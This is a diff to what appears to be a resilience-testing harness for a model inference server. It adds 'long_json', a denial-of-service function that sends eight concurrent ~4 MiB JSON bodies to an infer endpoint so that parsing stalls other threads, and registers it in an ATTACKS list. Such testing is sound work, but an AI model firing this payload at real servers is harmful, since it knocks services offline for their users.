@@ -530,6 +530,15 @@ def index_bodies(target: Target) -> None:
         list(pool.map(lambda _: target.post("/v2/repository/index", body), range(45)))
 
 
+def long_json(target: Target) -> None:
+    """Requests of JSON alone, as long as is read: parsing them lets no other thread run."""
+    many = (4 * MIB - 200) // 2
+    tensor = b'{"inputs": [{"name": "x", "shape": [%d], "datatype": "UINT8", "data": [' % many
+    body = tensor + b",".join([b"1"] * many) + b"]}]}"
+    with ThreadPoolExecutor(8) as pool:
+        list(pool.map(lambda _: target.post("/v2/models/UINT8/infer", body), range(8)))
+
+
 def json_output(target: Target) -> None:
     head = json.dumps(
         {
@@ -637,6 +646,7 @@ ATTACKS: tuple[Callable[[Target], None], ...] = (
     long_headers,
     load_parameters,
     index_bodies,
+    long_json,
     json_output,
     compressed_requests,
     unread_responses,
